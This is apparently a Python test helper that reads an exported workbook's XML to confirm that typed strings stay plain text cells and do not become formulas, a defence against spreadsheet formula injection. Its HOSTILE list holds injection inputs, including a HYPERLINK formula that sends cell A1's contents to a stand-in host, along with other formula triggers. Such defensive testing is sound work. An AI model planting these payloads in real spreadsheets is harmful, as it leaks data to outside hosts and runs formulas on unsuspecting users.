"""Reading an exported workbook as a spreadsheet program does, from its XML, to tell a text
cell from a formula, and text that would not stay text if a workbook were written carelessly."""

import zipfile
from collections.abc import Iterable
from dataclasses import dataclass
from io import BytesIO
from xml.etree import ElementTree

from openpyxl import load_workbook

# Run, or read as something other than the text, by a spreadsheet program if stored as typed:
# formulas, what Excel and LibreOffice also take for one when typed (+ - @, a full-width ＝,
# after a tab or a carriage return), and an error value.
HYPERLINK = '=HYPERLINK("http://x.example/?q="&A1,"Bấm vào đây")'
HOSTILE = (
    HYPERLINK,
    "=1+1",
    "+1+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
)

MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
TEXT_KINDS = ("inlineStr", "s")  # an inline string, or one from the shared strings


@dataclass(frozen=True)
class XmlCell:
    where: str  # the sheet's part and the cell's reference: "sheet1.xml!E5"
    kind: str  # the c element's t attribute: inlineStr, s, n, e (an error), str (a formula's text)…
    formula: str | None  # the text of its f element
    text: str  # what it shows: the string, the value, or "=" and its formula

    @property
    def is_text(self) -> bool:
        return self.kind in TEXT_KINDS and self.formula is None


def xml_cells(content: bytes) -> list[XmlCell]:
    """Every cell of every sheet, as written in the file."""
    cells = []
    with zipfile.ZipFile(BytesIO(content)) as archive:
        names = archive.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in item.iter(f"{MAIN}t")) for item in root.iter(f"{MAIN}si")]
        for name in sorted(n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")):
            for c in ElementTree.fromstring(archive.read(name)).iter(f"{MAIN}c"):
                kind, f, v = c.get("t", "n"), c.find(f"{MAIN}f"), c.find(f"{MAIN}v")
                if f is not None:
                    text = "=" + (f.text or "")
                elif kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter(f"{MAIN}t"))
                elif kind == "s":
                    text = shared[int(v.text)]
                else:
                    text = "" if v is None else (v.text or "")
                formula = None if f is None else f.text or ""
                cells.append(XmlCell(f"{name.rsplit('/', 1)[-1]}!{c.get('r')}", kind, formula, text))
    return cells


def assert_typed_text_stays_text(content: bytes, typed: Iterable[str]) -> None:
    """Each of `typed` is in the workbook, and every cell holding it, as its value or within
    it, is a text cell without a formula in the XML and a str openpyxl reads as it was typed."""
    cells = xml_cells(content)
    values = [cell for sheet in load_workbook(BytesIO(content)).worksheets for row in sheet.iter_rows() for cell in row]
    for text in typed:
        holding = [cell for cell in cells if text in cell.text]
        assert holding, f"{text!r} is in no cell"
        assert [cell for cell in holding if not cell.is_text] == [], f"{text!r} is stored as something other than text"
        read = [cell for cell in values if isinstance(cell.value, str) and text in cell.value]
        assert len(read) == len(holding) and {cell.data_type for cell in read} == {"s"}, text
